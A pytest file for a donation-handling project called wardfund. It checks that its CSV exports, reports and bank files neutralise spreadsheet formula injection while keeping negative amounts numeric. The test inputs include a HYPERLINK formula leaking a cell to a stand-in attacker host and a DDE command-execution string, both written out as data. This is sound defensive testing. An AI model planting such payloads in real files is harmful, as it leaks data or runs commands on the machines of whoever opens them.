"""Every CSV file wardfund writes neutralises spreadsheet formulas (issue 13, item 4).

A donor types their name into Stripe Checkout; a campaign's name, a ward or a supplier is
typed by someone else. Whatever it is, no cell of an export, report, permissibility list,
statement or bank file may begin with `=`, `+`, `-`, `@`, tab or CR unless the cell is a
plain number (a negative amount must stay a number Xero and spreadsheets read)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from wardfund.domain.account_report import CampaignReport, ReportEntry, build_report
from wardfund.domain.bank_details import scheme_text
from wardfund.domain.bank_files import BankPayment, NationalAccount, render_bankline_csv
from wardfund.domain.campaign import Campaign, CampaignType
from wardfund.domain.donor_report import DonorSummary
from wardfund.domain.facts import Donor
from wardfund.domain.figures import CampaignFigures
from wardfund.domain.permissibility import Gift, PermissibilityRules, review_permissibility
from wardfund.domain.postings import Payment, PaymentKind
from wardfund.printouts import formats

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
ATTACKS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
AT = datetime(2026, 6, 3, 18, tzinfo=UTC)


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula (a plain number is not one)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.match(cell)
    ]


def _report(name: str, text: str, change: int = -500) -> CampaignReport:
    entry = ReportEntry(
        at=AT,
        entry_id="e1",
        kind="payment",
        label=text,
        figures=CampaignFigures(raised=1000, local_share=800, national_share=200),
        ward=text,
        reference=text,
    )
    refund = ReportEntry(
        at=AT,
        entry_id="e2",
        kind="refund",
        label="Refund",
        figures=CampaignFigures(raised=-1000, local_share=change, national_share=-500 - change),
        ward=text,
        reference="re_1",
    )
    return build_report(name, name, [entry, refund], date(2026, 6, 1), date(2026, 6, 30))


def _donor(text: str) -> DonorSummary:
    payment = Payment("pi_1", "c", text, PaymentKind.ONE_OFF, 6000, "gbp", AT, "cus_1")
    return DonorSummary("cus_1", text, text, {text}, [(payment, 6000)])


def _checks(text: str) -> str:
    gift = Gift("pi_1", "cus_1", AT, 6000, 6000, text)
    donor = Donor("cus_1", text, text)
    review = review_permissibility(
        [gift], {"cus_1": donor}, CampaignType.CANDIDATE, PermissibilityRules(), lambda g: True
    )
    return formats.permissibility_csv([(Campaign("c", text), review)])


def _bank(text: str) -> str:
    """The run's bank file (a Bankline import): names and references are Bacs text, so an
    attack is not kept as it is but cannot start a cell either."""
    payment = BankPayment(
        "c", "p1", scheme_text(text), "089999", "66374958", 1600, scheme_text(f"WF {text}")
    )
    return render_bankline_csv([payment], NationalAccount(), date(2026, 6, 15))


WRITERS: dict[str, Callable[[str], str]] = {
    "export": lambda t: formats.donors_csv([_donor(t)]),
    "permissibility csv": _checks,
    "report csv": lambda t: formats.report_csv(_report(t, t)),
    "report --all csv": lambda t: formats.summary_csv([_report(t, t)]),
    "xero": lambda t: formats.report_xero([_report(t, t), _report("b", t)]),
    "quickbooks": lambda t: formats.report_quickbooks([_report(t, t), _report("b", t)]),
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_no_file_written_has_a_live_formula(writer: str, attack: str) -> None:
    text = WRITERS[writer](attack)
    assert live_formulas(text) == [], text
    # the text is still there, after the quote that makes it text (a CR written as LF)
    kept = attack.replace("\r", "\n")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any(cell.startswith("'") and kept in cell for cell in cells)


def test_a_line_break_cannot_start_a_row() -> None:
    text = formats.donors_csv([_donor("Amira\r=1+1")])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2  # the header and the donor: the CR did not end the row
    assert live_formulas(text) == []


def test_negative_amounts_stay_numbers() -> None:
    xero = list(csv.DictReader(io.StringIO(formats.report_xero([_report("c", "Hyde")]))))
    assert [row["*Amount"] for row in xero] == ["8.00", "-5.00"]
    summary = list(csv.DictReader(io.StringIO(formats.summary_csv([_report("c", "Hyde")]))))
    assert summary[0]["campaign_share"] == "3.00"
    assert summary[0]["national_share"] == "2.00"


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_bank_file_has_no_cell_a_spreadsheet_would_run(attack: str) -> None:
    text = _bank(attack)
    assert live_formulas(text) == [], text
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "16.00" in cells


def test_one_writer_decides_what_a_cell_may_be() -> None:
    from wardfund.domain.safe_csv import csv_text, safe_cell

    assert safe_cell(FORMULA) == "'" + FORMULA
    assert safe_cell("-12.50") == "-12.50"  # a plain number stays a number
    assert safe_cell(-1250) == "-1250"
    assert safe_cell("-12.50 refunded") == "'-12.50 refunded"
    assert safe_cell("-") == "'-"
    assert safe_cell("\0=1+1") == "'\0=1+1"
    assert safe_cell("\r=1+1") == "'\n=1+1"
    assert safe_cell("a\r\nb") == "a\nb"
    assert safe_cell(None) == ""
    assert safe_cell("Amira Khan") == "Amira Khan"
    assert csv_text(("a", "b"), [["=1", -5]]) == "a,b\n'=1,-5\n"
    assert csv_text(("a",), [["x\r=1"]]) == 'a\n"x\n=1"\n'


def test_no_other_module_writes_csv() -> None:
    """Every CSV file goes through `wardfund.domain.safe_csv`; nothing else makes a writer."""
    shared = Path(__file__).resolve().parents[2] / "shared" / "wardfund"
    writers = [
        str(path.relative_to(shared))
        for path in shared.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["domain/safe_csv.py"]
